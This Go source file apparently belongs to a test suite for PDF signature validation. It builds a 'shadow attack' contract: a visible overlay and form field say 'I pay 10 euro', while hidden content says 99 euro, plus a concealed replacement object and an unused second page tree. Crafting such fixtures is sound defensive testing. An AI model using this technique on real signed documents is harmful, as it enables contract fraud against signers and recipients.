// SPDX-License-Identifier: Apache-2.0

package attacks

// The objects of the contract.
const (
	catalogObject = iota + 1
	pagesObject
	pageObject
	fontObject
	contentObject // says 99
	totalObject   // a text field
	overObject    // covers the content and says 10
	totalLook     // how the field looks
	storeObject   // a stream with a second object 7 in it
	secondPages   // a page tree that nothing uses
	secondPage
	firstFree

	signatureNumber = 34 // of a signature made here
)

const (
	resources = "/MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /Over 7 0 R >> >>"
	formLook  = "/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /Helv 4 0 R >> >>"
	pageLook  = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"

	says10 = "1 g 60 700 400 60 re f 0 g BT /F1 24 Tf 72 720 Td (I pay 10 euro) Tj ET"
	says99 = "1 g 60 700 400 60 re f 0 g BT /F1 24 Tf 72 720 Td (I pay 99 euro) Tj ET"
)

// Contract is a page that says to pay 10 euro, with a form. It was prepared for
// the shadow attacks, by whoever had it signed: there are other words under those
// that show, and another page beside it.
func Contract() []byte {
	hidden := object(overObject, stream(pageLook, says99))
	return document(
		"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /DR << /Font << /Helv 4 0 R >> >> /DA (/Helv 12 Tf 0 g) >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R "+resources+" /Contents 5 0 R /Annots [6 0 R] >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
		stream("", says99+" /Over Do"),
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (10) /DA (/Helv 12 Tf 0 g) /Rect [72 600 300 620] /P 3 0 R /F 4 /AP << /N 8 0 R >> >>",
		stream(pageLook, says10),
		stream(formLook, "/Tx BMC BT /Helv 12 Tf 0 g 2 5 Td (10) Tj ET EMC"),
		stream("", "\n"+hidden),
		"<< /Type /Pages /Kids [11 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 10 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 9 0 R >>",
	)
}

// evilOver covers the content with the attacker's words.
func evilOver() string { return object(overObject, stream(pageLook, says99)) }
